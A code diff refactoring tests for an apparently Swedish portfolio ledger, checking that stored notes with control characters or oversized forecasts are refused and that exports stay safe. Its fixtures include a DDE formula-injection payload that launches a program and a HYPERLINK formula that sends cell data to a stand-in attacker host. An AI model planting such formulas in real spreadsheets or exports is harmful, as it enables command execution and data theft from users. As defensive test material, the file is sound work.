@@ -17,6 +17,7 @@ from portfolio.ledger import exports, tertial_store
 from portfolio.ledger.tertial import load_report
 from portfolio.periods import Period
 from registers.risks import excel
+from tests.stored import bracke_t1_2019_review, note_2019
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'
@@ -35,15 +36,8 @@ def stored_hostile_notes(db) -> None:
             user_email="x@gns.example",
             expected_version=None,
         )
-        tertial_store.upsert_review(
-            db,
-            year=2019,
-            period="T1",
-            party="BRACKE",
-            user_id=None,
-            user_email="x@gns.example",
-            user_name="@SUM(1+1)\x07",
-            comment=CALC + "\x1b",
+        bracke_t1_2019_review(
+            db, user_email="x@gns.example", user_name="@SUM(1+1)\x07", comment=CALC + "\x1b"
         )
 
 
@@ -111,42 +105,20 @@ def test_the_risk_workbook_keeps_a_stored_control_character_from_breaking_the_ex
 
 
 def test_a_tertial_comment_with_a_control_character_is_refused(seeded):
-    from portfolio.auth import SYSTEM
     from portfolio.errors import InvalidInputError
-    from portfolio.ledger.tertial import save_note
 
     with pytest.raises(InvalidInputError) as caught:
-        save_note(
-            seeded,
-            SYSTEM,
-            year=2019,
-            period=Period.T1,
-            obj="6674",
-            comment="Ök\x0bning",
-            forecast_ore=None,
-            version=None,
-        )
+        note_2019(seeded, Period.T1, "6674", "Ök\x0bning")
     assert "styrtecken" in caught.value.messages[0] and "6674" in caught.value.messages[0]
     assert tertial_store.get_note(seeded, 2019, "T1", "6674") is None
 
 
 def test_a_forecast_beyond_the_money_bound_is_refused(seeded):
-    from portfolio.auth import SYSTEM
     from portfolio.errors import InvalidInputError
-    from portfolio.ledger.tertial import save_note
     from portfolio.money import MAX_ORE
 
     with pytest.raises(InvalidInputError, match="prognos"):
-        save_note(
-            seeded,
-            SYSTEM,
-            year=2019,
-            period=Period.T1,
-            obj="6674",
-            comment="Ny prognos",
-            forecast_ore=MAX_ORE + 1,
-            version=None,
-        )
+        note_2019(seeded, Period.T1, "6674", "Ny prognos", MAX_ORE + 1)
 
 
 def test_a_review_comment_with_a_control_character_is_refused(seeded):
